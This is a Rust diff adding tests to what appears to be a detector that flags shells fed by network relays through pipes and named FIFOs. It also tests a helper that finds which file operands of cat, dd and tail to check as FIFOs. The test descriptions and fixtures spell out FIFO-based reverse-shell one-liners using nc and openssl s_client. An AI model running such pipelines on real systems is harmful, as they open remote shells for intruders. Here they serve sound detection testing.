@@ -28,6 +28,8 @@ pub(super) struct X {
     stdin: Option<u64>,
     stdout: Option<u64>,
     fds: &'static [(u32, u64)],
+    /// The named FIFO an operand names, as the pipeline found it (`cat f`).
+    fifo: Option<u64>,
 }
 
 pub(super) const fn x(
@@ -44,6 +46,7 @@ pub(super) const fn x(
         stdin,
         stdout,
         fds: &[],
+        fifo: None,
     }
 }
 
@@ -89,6 +92,7 @@ pub(super) fn exec(x: &X) -> Event {
             .iter()
             .map(|&(fd, pipe)| FdPipe { fd, pipe })
             .collect(),
+        input_fifo: x.fifo,
         ld_preload: None,
         ld_audit: None,
         ld_audit_unread: false,
@@ -440,6 +444,60 @@ fn shells_reading_downloaded_or_decoded_code_from_a_pipe() {
                 ),
             ],
             Some((RELAY, 11)),
+        ),
+        (
+            "mkfifo f; cat f | sh -i 2>&1 | nc host port > f (cat reads the FIFO its operand names)",
+            &[
+                X {
+                    fifo: Some(41),
+                    ..x(12, "/usr/bin/cat", &["cat", "f"], None, Some(40))
+                },
+                x(11, "/usr/bin/dash", &["sh", "-i"], Some(40), Some(42)),
+                x(
+                    10,
+                    "/usr/bin/nc.traditional",
+                    &["nc", "10.0.0.1", "4444"],
+                    Some(42),
+                    Some(41),
+                ),
+            ],
+            Some((RELAY, 11)),
+        ),
+        (
+            "the same, the shell's exec first and nc's before cat's",
+            &[
+                x(11, "/usr/bin/bash", &["bash", "-i"], Some(43), Some(44)),
+                x(
+                    10,
+                    "/usr/bin/nc.openbsd",
+                    &["nc", "-l", "4444"],
+                    Some(44),
+                    Some(45),
+                ),
+                X {
+                    fifo: Some(45),
+                    ..x(12, "/usr/bin/cat", &["cat", "/tmp/f"], None, Some(43))
+                },
+            ],
+            Some((RELAY, 11)),
+        ),
+        (
+            "cat f | sh, the FIFO written by a program that is no relay",
+            &[
+                x(
+                    10,
+                    "/usr/bin/python3",
+                    &["python3", "gen.py"],
+                    None,
+                    Some(47),
+                ),
+                X {
+                    fifo: Some(47),
+                    ..x(12, "/usr/bin/cat", &["cat", "f"], None, Some(46))
+                },
+                x(11, "/usr/bin/dash", &["sh"], Some(46), None),
+            ],
+            None,
         ),
         (
             "mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect host:port > f",
@@ -1272,4 +1330,51 @@ fn a_file_a_relay_or_a_socket_fed_filter_wrote_then_run_is_download_and_execute(
         None,
     );
     assert!(run_after(openssl_enc, false).is_empty());
+}
+
+#[test]
+fn only_a_filter_writing_into_a_pipe_has_its_operands_looked_at_for_a_fifo() {
+    let b = crate::detect::RuleSet::builtin().expect("built-in rules");
+    let b = b.behaviour();
+    let operands = |e: &X| match exec(e) {
+        Event::Exec(e) => super::pipes::fifo_operands(b, &e)
+            .into_iter()
+            .map(str::to_owned)
+            .collect::<Vec<_>>(),
+        _ => unreachable!("an exec"),
+    };
+    assert_eq!(
+        operands(&x(
+            1,
+            "/usr/bin/cat",
+            &["cat", "-u", "f", "g"],
+            None,
+            Some(1)
+        )),
+        ["f", "g"]
+    );
+    assert_eq!(
+        operands(&x(
+            1,
+            "/usr/bin/dd",
+            &["dd", "if=/tmp/f", "bs=1"],
+            None,
+            Some(1)
+        )),
+        ["/tmp/f", "bs=1"]
+    );
+    assert_eq!(
+        operands(&x(
+            1,
+            "/usr/bin/tail",
+            &["tail", "-f", "a", "b", "c", "d", "e"],
+            None,
+            Some(1)
+        )),
+        ["a", "b", "c", "d"]
+    );
+    // Not a filter, no pipe to write into, or a pipe on standard input already.
+    assert!(operands(&x(1, "/usr/bin/ls", &["ls", "f"], None, Some(1))).is_empty());
+    assert!(operands(&x(1, "/usr/bin/cat", &["cat", "f"], None, None)).is_empty());
+    assert!(operands(&x(1, "/usr/bin/cat", &["cat", "f"], Some(2), Some(1))).is_empty());
 }
